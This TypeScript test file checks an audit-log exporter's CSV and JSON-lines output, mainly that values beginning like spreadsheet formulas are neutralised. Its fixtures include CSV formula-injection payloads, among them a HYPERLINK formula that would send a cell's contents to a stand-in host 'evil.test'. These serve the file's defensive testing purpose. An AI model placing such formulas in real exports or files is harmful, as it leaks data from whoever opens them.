import { describe, expect, test } from 'vitest';
import { auditFormats } from '../../src/ops/audit-export.ts';
import type { AuditEntry } from '../../src/ops/audit.ts';
import { parseCsv } from './csv.ts';

function entry(rest: Partial<AuditEntry> = {}): AuditEntry {
  return {
    id: '1700000000000-0',
    at: 1_700_000_000_000,
    kind: 'exchange_refused',
    actor: 'shop',
    site: 'shop',
    account: 'main',
    sceneId: 'A'.repeat(22),
    ip: '203.0.113.0/24',
    detail: { reason: 'unknown_code', count: 3 },
    ...rest,
  };
}

function csv(...entries: AuditEntry[]): string {
  return auditFormats.csv.begin + entries.map(auditFormats.csv.line).join('');
}

describe('CSV', () => {
  test('has a mark, a header, a line for each entry, and its times as anybody reads them', () => {
    const text = csv(entry(), entry({ site: null, sceneId: null, ip: null }));
    expect(text.charCodeAt(0)).toBe(0xfeff);
    const [header, first, second] = parseCsv(text.slice(1));
    expect(header).toEqual(['id', 'at', 'kind', 'actor', 'site', 'account', 'sceneId', 'ip', 'detail']);
    const time = '2023-11-14T22:13:20.000Z';
    const common = ['1700000000000-0', time, 'exchange_refused', 'shop'];
    const detail = '{"reason":"unknown_code","count":3}';
    expect(first).toEqual([...common, 'shop', 'main', 'A'.repeat(22), '203.0.113.0/24', detail]);
    expect(second).toEqual([...common, '', 'main', '', '', detail]);
  });

  test.each([
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', "'\r=1"],
    ['\n=1', "'\n=1"],
    ['＝1+1', "'＝1+1"],
    ['=HYPERLINK("http://evil.test?"&A1,"x")', '\'=HYPERLINK("http://evil.test?"&A1,"x")'],
    ['a=1', 'a=1'],
    ['"=1"', '"=1"'],
    ['a,b;c\td', 'a,b;c\td'],
    ['two\r\nlines', 'two\r\nlines'],
    ['小美 😀', '小美 😀'],
    ['', ''],
  ])('%j is calculated by nobody', (actor, shown) => {
    const [, row] = parseCsv(csv(entry({ actor })).slice(1));
    expect(row?.[3]).toBe(shown);
  });

  test('a scene id may begin as a formula does', () => {
    const [, row] = parseCsv(csv(entry({ sceneId: '-'.repeat(22) })).slice(1));
    expect(row?.[6]).toBe(`'${'-'.repeat(22)}`);
  });

  test('a detail never begins as a formula, and is read again', () => {
    const detail = { userAgent: '=1"\',\n', reason: '@' };
    const [, row] = parseCsv(csv(entry({ detail })).slice(1));
    expect(JSON.parse(row?.[8] ?? '')).toEqual(detail);
  });

  test('nor does what stands behind a semicolon in it, which parts the fields elsewhere', () => {
    const detail = { userAgent: ';=1+1;@SUM(1)', '\\;': '\\;' };
    const [, row] = parseCsv(csv(entry({ detail })).slice(1));
    expect(row?.[8]).not.toContain(';');
    expect(JSON.parse(row?.[8] ?? '')).toEqual(detail);
  });
});

test('JSON lines: each is an entry, whatever is in it', () => {
  const entries = [entry(), entry({ actor: 'two\nlines "and" \u2028 <b>', detail: { a: '\\' } })];
  const text = entries.map(auditFormats.jsonl.line).join('');
  expect(text.split('\n')).toHaveLength(3);
  const read = text
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line) as AuditEntry);
  expect(read).toEqual(entries);
});
